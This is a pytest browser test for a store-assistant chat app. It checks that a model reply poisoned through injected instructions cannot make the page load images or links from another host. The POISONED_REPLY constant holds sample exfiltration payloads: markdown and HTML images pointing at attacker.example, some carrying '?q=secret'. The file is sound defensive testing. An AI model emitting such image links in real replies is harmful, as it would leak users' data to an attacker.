"""The real page in a real browser: a reply that obeyed a poisoned manual loads nothing from
another host. AppTest shows what the script sent to the page; only a browser shows what the page
then fetches, so headless Chromium (Debian's, driven by playwright) opens the app, asks one
question and counts every request that is not to the app itself.

The model is a scripted OpenAI-compatible server on loopback whose reply carries every markdown
image and link form an injected instruction could use. The control: the reply's link text is on
the page, with its address shown, so the reply really was drawn.
"""

from __future__ import annotations

import shutil
import socket
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.conftest import bench_load
from tests.fakes import ScriptedModelServer

CHROMIUM = Path("/usr/bin/chromium")
ATTACKER = "attacker.example"
POISONED_REPLY = (
    f"Sure! The status is ![status](https://{ATTACKER}/inline.png?q=secret) and "
    f"![badge][pixel] fine. <img src=\"https://{ATTACKER}/html.png\"> For help see "
    f"[Volt support][help] or <https://{ATTACKER}/auto>.\n\n"
    f"[pixel]: https://{ATTACKER}/reference.png?q=secret\n"
    f"[help]: https://{ATTACKER}/login\n")


@pytest.fixture(scope="module")
def app_with_poisoned_model(tmp_path_factory, store_settings):
    assert CHROMIUM.exists(), ("No /usr/bin/chromium: `make test` installs it (Debian's chromium "
                               "package); on your machine run `sudo apt-get install chromium`.")
    model = ScriptedModelServer(POISONED_REPLY)
    load = bench_load()
    root = tmp_path_factory.mktemp("browser")
    shutil.copytree(store_settings.data_dir, root / "data",
                    ignore=shutil.ignore_patterns(".lock", "accounts.db", "answer-log"))
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    app = load.start_app(port, root / "app.log", root / "data", extra_env={
        "STORE_ASSISTANT_LLM": "openai/scripted", "STORE_ASSISTANT_API_BASE": model.url,
        "OPENAI_API_KEY": "test-key", "STORE_ASSISTANT_MAX_RETRIES": "0"})
    yield f"http://127.0.0.1:{port}/", model, root
    load.stop_app(app)
    model.close()


def test_a_poisoned_reply_makes_no_request_to_another_host(app_with_poisoned_model) -> None:
    from playwright.sync_api import sync_playwright

    url, model, root = app_with_poisoned_model
    elsewhere: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM),
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--no-first-run"])
        page = browser.new_page(viewport={"width": 1200, "height": 1000})

        def seen(request) -> None:
            if urlsplit(request.url).hostname not in ("127.0.0.1", "localhost"):
                elsewhere.append(request.url)

        page.on("request", seen)
        page.route(f"**/*{ATTACKER}*/**", lambda route: route.abort())  # counted, never sent
        page.goto(url)
        box = page.get_by_placeholder("Ask about a product, price, stock or policy...")
        box.wait_for(timeout=120_000)
        # A strategy without retrieval: the reply reaches the page as the model wrote it.
        page.locator('[data-testid="stSelectbox"]').first.click()
        page.get_by_role("option", name="pe-zero-shot").click()
        _settled(page)
        box.fill("Where can a customer get help with the store's app?")
        box.press("Enter")
        page.locator('[data-testid="stChatMessage"]', has_text="Volt support").last.wait_for(
            timeout=180_000)
        _settled(page)
        page.screenshot(path=str(root / "poisoned-reply.png"), full_page=True)
        answer = page.locator('[data-testid="stChatMessage"]').last.inner_text()
        images = page.locator('[data-testid="stChatMessage"] img').count()
        browser.close()
    assert model.requests >= 1  # the reply came from the model, not from a code-built answer
    assert elsewhere == [], elsewhere
    assert images == 0
    assert f"https://{ATTACKER}/login" in answer  # the link's address is shown beside its text


def _settled(page, quiet_s: float = 3.0, limit_s: float = 120.0) -> None:
    """Wait until Streamlit has stopped running the script for `quiet_s` in a row."""
    quiet_since, deadline = time.monotonic(), time.monotonic() + limit_s
    while time.monotonic() - quiet_since < quiet_s and time.monotonic() < deadline:
        if page.locator('[data-testid="stStatusWidget"]').count():
            quiet_since = time.monotonic()
        time.sleep(0.25)
